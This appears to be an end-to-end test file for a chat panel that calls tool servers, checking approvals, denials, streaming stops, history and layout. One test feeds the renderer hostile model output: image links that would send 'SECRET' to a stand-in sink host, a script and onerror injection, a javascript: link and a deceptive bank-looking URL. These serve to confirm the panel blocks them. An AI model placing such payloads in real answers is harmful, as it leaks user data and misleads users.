import { scriptedOpenai } from '../tests/servers/scripted-openai'
import { audit } from './audit'
import { ChatWindow, calling } from './chat-window'
import { expect, test } from './rollcall'

test('each question goes to the servers it is about, and says why', async ({ rollcall }) => {
  await using model = await scriptedOpenai((asked) =>
    asked.question.includes('weather')
      ? { text: 'It is sunny.' }
      : calling('query', { sql: 'SELECT 1 AS late' }, 'One order is late.')(asked),
  ).start()
  const chat = new ChatWindow(rollcall)
  await chat.model(model.url)
  await using _weather = await chat.sample('weather')
  await using _database = await chat.sample('database')
  await chat.open()
  await audit(rollcall.page, 'an empty chat')

  await chat.ask('What is the weather in Shanghai?')
  await expect(chat.turns.getByText('It is sunny.')).toBeVisible()
  await chat.turns.getByRole('button', { name: /^Why: tag weather/u }).click()
  const why = chat.page.getByRole('region', { name: 'Why these servers' })
  await expect(why).toContainText('weather.get_forecast')
  await audit(rollcall.page, 'why')
  await why.getByRole('button', { name: 'Leave weather out of this chat' }).click()
  await expect(why.getByRole('button', { name: 'Ask weather again in this chat' })).toBeVisible()

  await chat.button('New').click()
  await chat.ask('Which orders are late?')
  const ask = chat.page.getByRole('region', { name: 'A call waits for your approval' })
  await expect(ask).toContainText('database.query')
  await ask.getByRole('button', { name: 'Allow once' }).click()
  await expect(chat.turns.getByText('One order is late.')).toBeVisible()
  await expect(chat.turns.getByText(/tokens/u)).toBeVisible()
})

test('a tool allowed for good asks no more; one denied is not run, and the model hears of it', async ({
  rollcall,
}) => {
  await using model = await scriptedOpenai(calling('forecast', { city: 'Oslo' }, 'Done.')).start()
  const chat = new ChatWindow(rollcall)
  await chat.model(model.url)
  await using _weather = await chat.sample('weather')
  await chat.open()
  await chat.ask('What is the weather in Oslo?')
  await chat.button('Deny').click()
  await expect(chat.turns.getByText('Done.')).toBeVisible()
  await expect(chat.turns.getByRole('article', { name: 'weather.get_forecast' })).toContainText('Denied')
  expect(model.asked.at(-1)?.results[0]?.text).not.toContain('high_c')

  await chat.button('Ask again').click()
  await chat.button('Always for this tool').click()
  await expect(chat.turns.getByText('Done.')).toBeVisible()
  await chat.ask('And the weather tomorrow?')
  await expect(chat.turns.getByText('Done.')).toHaveCount(2)
  await expect(chat.button('Allow once')).toHaveCount(0)
})

test('several calls at the same time are answered together', async ({ rollcall }) => {
  await using model = await scriptedOpenai(({ tools, results }) => {
    const name = tools.find((tool) => tool.name.includes('forecast'))?.name ?? ''
    const calls = ['Oslo', 'Cairo'].map((city) => ({ name, arguments: { city } }))
    return results.length > 0 ? { text: 'Both are fine.' } : { calls }
  }).start()
  const chat = new ChatWindow(rollcall)
  await chat.model(model.url)
  await using _weather = await chat.sample('weather')
  await chat.open()
  await chat.ask('Compare the weather of Oslo and Cairo')
  const asks = chat.page.getByRole('region', { name: '2 calls wait for your approval' })
  await expect(asks).toContainText('Cairo')
  await asks.getByRole('button', { name: 'Allow all once' }).click()
  await expect(chat.turns.getByText('Both are fine.')).toBeVisible()
})

test('an answer is stopped, and says so; without a key one is told what to do', async ({ rollcall }) => {
  await using model = await scriptedOpenai(() => ({ text: 'word '.repeat(400), everyMs: 50 })).start()
  const chat = new ChatWindow(rollcall)
  await chat.model(model.url)
  await chat.open()
  await chat.ask('Tell me a long story')
  await expect(chat.turns.getByText(/word word/u)).toBeVisible()
  await chat.button('Stop').click()
  await expect(chat.turns.getByText('You stopped this answer.')).toBeVisible()
  await expect.poll(() => model.left).toBe(1)

  model.script = () => ({ status: 401, message: 'no such key' })
  await chat.ask('And now?')
  await expect(chat.turns.getByText(/refused the key/u)).toBeVisible()
  await expect(chat.button('Open the model settings')).toBeVisible()
})

test('without a model the best tool is proposed with its form, and run', async ({ rollcall }) => {
  const chat = new ChatWindow(rollcall)
  await using _weather = await chat.sample('weather')
  await chat.open()
  await expect(chat.page.getByText(/It works without/u)).toBeVisible()
  await chat.ask('What is the weather in Shanghai?')
  const proposal = chat.turns.getByRole('article').first()
  await proposal.getByLabel('city').fill('Shanghai')
  await audit(rollcall.page, 'proposals')
  await proposal.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(chat.turns.getByText(/上海/u).first()).toBeVisible()
})

test('a tool is named with a slash and filled in from the keyboard alone', async ({ rollcall }) => {
  const chat = new ChatWindow(rollcall)
  const { keyboard } = rollcall.page
  await using _weather = await chat.sample('weather')
  await keyboard.press('c')
  await keyboard.press('g')
  await keyboard.press('q')
  await expect(chat.field).toBeFocused()
  await keyboard.type('/weather.get')
  const list = rollcall.page.getByRole('listbox', { name: 'Tools' })
  await expect(list.getByRole('option')).toHaveCount(2)
  await audit(rollcall.page, 'tools after a slash')
  await keyboard.type('_fore')
  await keyboard.press('Enter')
  const form = rollcall.page.getByRole('region', { name: 'Arguments of weather.get_forecast' })
  await expect(form.getByLabel('city')).toBeFocused()
  await keyboard.type('Tokyo')
  await keyboard.press('Enter')
  await expect(chat.turns.getByText(/"city":"Tokyo"/u).first()).toBeVisible()
  await expect(chat.turns.getByRole('article', { name: 'weather.get_forecast' })).toContainText(/東京|东京/u)
})

test('conversations are found, renamed, deleted and brought back', async ({ rollcall }) => {
  await using model = await scriptedOpenai(() => ({ text: 'It is a teapot.' })).start()
  const chat = new ChatWindow(rollcall)
  const { page } = rollcall
  await chat.model(model.url)
  await chat.open()
  for (const question of ['What is this?', 'And that?']) {
    await chat.button('New').click()
    await chat.ask(question)
    await expect(chat.turns.getByText('It is a teapot.')).toBeVisible()
  }
  await chat.button('Conversations').click()
  const list = page.getByRole('dialog', { name: 'Conversations' })
  await list.getByRole('searchbox').fill('teapot')
  await expect(list.getByRole('button', { name: /teapot/u })).toHaveCount(2)
  await list.getByRole('searchbox').fill('')
  await audit(page, 'conversations')
  await list.getByRole('button', { name: 'Actions on What is this?' }).click()
  await page.getByRole('menuitem', { name: 'Rename' }).click()
  await page.getByRole('textbox', { name: 'New title' }).fill('My teapot')
  await page.keyboard.press('Enter')
  await expect(list.getByRole('button', { name: /^My teapot/u })).toBeVisible()
  await list.getByRole('button', { name: 'Actions on My teapot' }).click()
  await page.getByRole('menuitem', { name: 'Delete' }).click()
  await expect(list.getByRole('button', { name: /^My teapot/u })).toHaveCount(0)
  await page.getByRole('button', { name: 'Undo' }).click()
  if (!(await list.isVisible())) await chat.button('Conversations').click()
  await expect(list.getByRole('button', { name: /^My teapot/u })).toBeVisible()
})

test('what was typed is kept over a reload, and no key of an input method sends it', async ({ rollcall }) => {
  const chat = new ChatWindow(rollcall)
  const { page } = rollcall
  await chat.open()
  await chat.field.fill('明天')
  // Input methods tell of their keys in one of two ways.
  await page.evaluate(`
    for (const mark of [{ isComposing: true }, { keyCode: 229 }])
      document.activeElement.dispatchEvent(
        new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true, ...mark }),
      )
  `)
  await chat.field.press('Shift+Enter')
  await chat.field.pressSequentially('Shanghai')
  await page.reload()
  await expect(chat.field).toHaveValue('明天\nShanghai')
  await expect(chat.turns).toHaveCount(0)
})

test('nothing in an answer is fetched, and a link shows its whole address before it opens', async ({
  rollcall,
}) => {
  const sink = 'https://login.bank.com@sink.example.co.uk/?q=SECRET'
  const text = [
    `![x](${sink})`,
    `<img src="${sink}" onerror="window.__pwn=1"><script>window.__pwn=1</script>`,
    `![x][ref]\n\n[ref]: ${sink}`,
    '[run](javascript:window.__pwn=1)',
    `[pay](${sink})`,
  ].join('\n\n')
  await using model = await scriptedOpenai(() => ({ text })).start()
  const chat = new ChatWindow(rollcall)
  const { page } = rollcall
  await chat.model(model.url)
  await chat.open()
  await chat.ask('Pay it')
  const link = chat.turns.getByRole('button', { name: 'pay', exact: true })
  await link.click()
  const dialog = page.getByRole('dialog', { name: 'Open this page?' })
  await expect(dialog.locator('strong')).toHaveText('example.co.uk')
  await expect(dialog).toContainText(sink)
  await page.evaluate('window.open = (address) => { window.__opened = address }')
  await dialog.getByRole('button', { name: 'Open in the browser' }).click()
  expect(await page.evaluate('window.__opened')).toBe(sink)
  expect(await page.evaluate('window.__pwn')).toBeUndefined()
  await expect(chat.turns.locator('img, a, iframe')).toHaveCount(0)
})

test('it stands beside the work, has the window to itself, and gives it back', async ({ rollcall }) => {
  const { page } = rollcall
  const chat = new ChatWindow(rollcall)
  await chat.open()
  const dock = page.getByRole('complementary', { name: 'Chat' })
  const width = async () => (await dock.boundingBox())?.width ?? 0
  const before = await width()
  await dock.getByRole('separator', { name: 'Width of the chat' }).press('ArrowLeft')
  await expect.poll(width).toBeGreaterThan(before)
  await chat.button('Chat full size').click()
  await expect(dock).toHaveCount(0)
  await chat.button('Chat beside the work').click()
  await expect(dock).toBeVisible()
  await page.setViewportSize({ width: 900, height: 600 })
  await expect(dock).toHaveCount(0)
  await page.keyboard.press('c')
  await expect(chat.field).toBeVisible()
  await audit(page, 'chat in a small window')
  await chat.button('Close the chat').click()
  await expect(chat.field).toHaveCount(0)
})
